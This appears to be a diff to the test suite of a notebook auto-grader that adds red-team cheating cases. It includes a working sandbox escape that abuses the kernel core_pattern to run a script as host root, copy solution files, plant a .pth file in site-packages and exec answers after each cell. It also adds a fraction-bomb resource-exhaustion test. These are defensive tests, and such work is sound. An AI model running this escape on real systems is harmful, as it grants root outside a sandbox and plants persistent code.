@@ -34,6 +34,7 @@ from test_grading_support import ROOT, sandbox_or_skip, student_notebook, write
 PYTHON = sys.executable
 CELL, NOTEBOOK = 15, 40           # seconds: --timeout and --notebook-seconds of the class
 DAEMON = "pvcheatdaemon"          # the process name a detached cheater gives itself
+CORE_PATTERN = Path("/proc/sys/kernel/core_pattern")   # what the kernel runs for a core dump
 
 
 def grade(course: Path, subs: Path, out: Path, *extra, env=None):
@@ -112,6 +113,38 @@ def kill_class(mark: str, sig: str) -> str:
             f"            except OSError:\n"
             f"                pass\n"
             f"attack()\n")
+
+
+def root_escape(marker: Path, site: str) -> str:
+    """The red team's escape of a sandbox whose code runs as the host's root: core_pattern
+    set to a pipe into a script in the sandbox's /tmp, then an aborted child, so that the
+    kernel runs the script as root outside the sandbox; it would copy the solutions in, mark
+    the host and plant a .pth in the Python environment, then exec the answers after every
+    cell."""
+    helper = ("#!/bin/sh\n"
+              f"cp {ROOT}/solutions/05_ppcum.ipynb /proc/$1/root/tmp/solution.ipynb\n"
+              f"echo escaped > {marker}\n"
+              f"echo 'import os' > {site}/zz_panpriv_cheat.pth\n"
+              "echo core > /proc/sys/kernel/core_pattern\n")
+    return ("import json, os\n"
+            f"open('/tmp/h.sh', 'w').write({helper!r})\n"
+            "os.chmod('/tmp/h.sh', 0o755)\n"
+            "old = open('/proc/sys/kernel/core_pattern').read()\n"
+            "try:\n"
+            "    with open('/proc/sys/kernel/core_pattern', 'w') as f:\n"
+            "        f.write('|/proc/%P/root/tmp/h.sh %P')\n"
+            "    child = os.fork()\n"
+            "    if child == 0:\n"
+            "        os.abort()\n"
+            "    os.waitpid(child, 0)\n"
+            "finally:\n"
+            "    with open('/proc/sys/kernel/core_pattern', 'w') as f:\n"
+            "        f.write(old)\n"
+            "solution = json.load(open('/tmp/solution.ipynb'))\n"
+            "CODE = '\\n'.join(''.join(c['source']) for c in solution['cells']\n"
+            "                  if 'BEGIN SOLUTION' in ''.join(c['source']))\n"
+            "ip = get_ipython()\n"
+            "ip.events.register('post_run_cell', lambda result: exec(CODE, ip.user_ns))\n")
 
 
 def cheaters(course: Path, subs: Path, out: Path) -> dict:
@@ -242,13 +275,16 @@ def cheaters(course: Path, subs: Path, out: Path) -> dict:
             "    f._numerator, f._denominator = k * 7, k * 14    # 2 MB each, unreduced\n"
             "    return {'blank': f, 'repeat': f, 'first': f}")}, {}),
         "lazy": ("05_ppcum", {"5.1": "def erased_after(t, T):\n    return range(10**8)"}, {}),
+        # --- out of the sandbox through the kernel
+        "rooter": ("05_ppcum", {n: "stub" for n in ("5.1", "5.2", "5.3", "5.4", "5.5")},
+                   {"5.1": root_escape(out.parent / "ESCAPED", site_packages()[0])}),
     }
 
 
 CHEATED = {   # student: exercises whose status must not be "passed"
     "borrower": ("5.1", "5.2", "5.3", "5.4", "5.5"), "evader": ("5.1", "5.2", "5.3", "5.4"),
     "helper": ("1.7",), "auditor": ("2.3",), "fraction": ("5.4",), "lazy": ("5.1",),
-    "recon": ("5.1",),
+    "recon": ("5.1",), "rooter": ("5.2", "5.3", "5.4", "5.5"),
 }
 
 
@@ -282,6 +318,7 @@ def graded(course, tmp_path_factory):
     (subs / "linker" / "05_ppcum.ipynb").symlink_to(ROOT / "solutions" / "05_ppcum.ipynb")
     (subs / "mirror").symlink_to(subs / "ada", target_is_directory=True)
     before_subs = digest(subs)
+    core_pattern = CORE_PATTERN.read_text()
     started = time.monotonic()
     code_b, text_b = grade(course, subs, out)
     seconds = time.monotonic() - started
@@ -292,7 +329,9 @@ def graded(course, tmp_path_factory):
                  outputs_stable=digest(out) == after_exit, daemons=processes_named(DAEMON),
                  subs_unchanged=digest(subs) == before_subs,
                  course_unchanged=digest(course) == before_course,
-                 grades=json.loads((out / "grades.json").read_text()))
+                 grades=json.loads((out / "grades.json").read_text()),
+                 core_pattern_kept=CORE_PATTERN.read_text() == core_pattern,
+                 escaped=(root / "ESCAPED").exists())
     code_c, text_c = grade(course, honest, root / "out_c")
     found.update(code_c=code_c, text_c=text_c, rows_c=rows(root / "out_c"))
     planted = [p for p in site_packages() if (Path(p) / "zz_panpriv_cheat.pth").exists()]
@@ -341,15 +380,18 @@ def test_nobody_outside_its_sandbox_was_touched(graded):
     assert graded["subs_unchanged"] and graded["course_unchanged"]
     assert graded["outputs_stable"] and graded["daemons"] == []
     assert graded["planted"] == []
+    assert graded["core_pattern_kept"] and not graded["escaped"]      # the rooter
     assert all(s == "passed" for s in statuses_of(graded["rows_b"], "overwriter").values())
 
 
 def test_inside_the_sandbox_a_notebook_sees_itself_only(graded):
-    """The recon student reports what its answer could see: one process (itself, pid 1), no
-    path of the grading machine, nothing writable but its own /tmp, no network."""
+    """The recon student reports what its answer could see: one process (itself, pid 1; as
+    root, the worker's root half too, which only waits for it), no path of the grading
+    machine, nothing writable but its own /tmp, no network."""
     diagnosis = next(d for e, _, d in graded["rows_b"]["recon"] if e == "5.1")
     seen = json.loads(diagnosis.split("RECON ", 1)[1].split("\n")[0].rsplit("}", 1)[0] + "}")
-    assert seen == {"pids": ["1"], "paths": [], "writable": [], "net": "closed"}
+    pids = ["1", "2"] if os.geteuid() == 0 else ["1"]
+    assert seen == {"pids": pids, "paths": [], "writable": [], "net": "closed"}
 
 
 def test_the_library_holds_no_answer_only_stubs_naming_the_exercise(graded):
@@ -479,11 +521,14 @@ def test_a_worker_killed_from_outside_fails_the_run_and_names_the_notebook(cours
         while time.monotonic() < deadline and not killed:
             for pid in processes_named("pvvictim"):
                 try:
-                    stat = Path(f"/proc/{pid}/stat").read_text()
-                    sandbox = int(stat.rsplit(")", 1)[1].split()[1])   # its parent: bwrap
-                    if Path(f"/proc/{sandbox}/comm").read_text().strip() == "bwrap":
-                        os.kill(sandbox, signal.SIGKILL)
-                        killed.append(sandbox)
+                    sandbox = pid
+                    for _ in range(3):      # its parent (as root, its parent's): bwrap
+                        stat = Path(f"/proc/{sandbox}/stat").read_text()
+                        sandbox = int(stat.rsplit(")", 1)[1].split()[1])
+                        if Path(f"/proc/{sandbox}/comm").read_text().strip() == "bwrap":
+                            os.kill(sandbox, signal.SIGKILL)
+                            killed.append(sandbox)
+                            break
                 except (OSError, ValueError):
                     pass
             time.sleep(0.1)
@@ -497,3 +542,18 @@ def test_a_worker_killed_from_outside_fails_the_run_and_names_the_notebook(cours
     assert "FAILED: victim/05_ppcum.ipynb: the Python process running its code was killed by " \
            "SIGKILL from outside the sandbox (not by a limit of the grader)" in text
     assert set(statuses_of(rows(tmp_path / "out"), "ada").values()) == {"passed"}
+
+
+def test_a_million_references_to_one_large_fraction_cost_a_few_gcds_then_are_refused():
+    """The red team's fraction bomb: one Fraction of two 65,536-bit terms, sent 1,999,000
+    times by reference (a pickle memoises it: 10 MB on the wire). Each within the caps, all
+    together they cost hours of gcd in the grader; the message's budget of bits beyond 64
+    stops the decoding after MAX_BIG_BITS / 130,944 = 32 of them."""
+    from fractions import Fraction
+
+    from panpriv_teach.classroom.grading import wire
+    big = [(1 << 65535) | 1, (1 << 65535) | 3]
+    assert wire.decode([{"f": big}] * 32)[31] == Fraction(*big)
+    with pytest.raises(wire.TooLarge, match="beyond 64 in all: the grader accepts at most "
+                                            "4,194,304"):
+        wire.decode([{"f": big}] * 1_999_000)
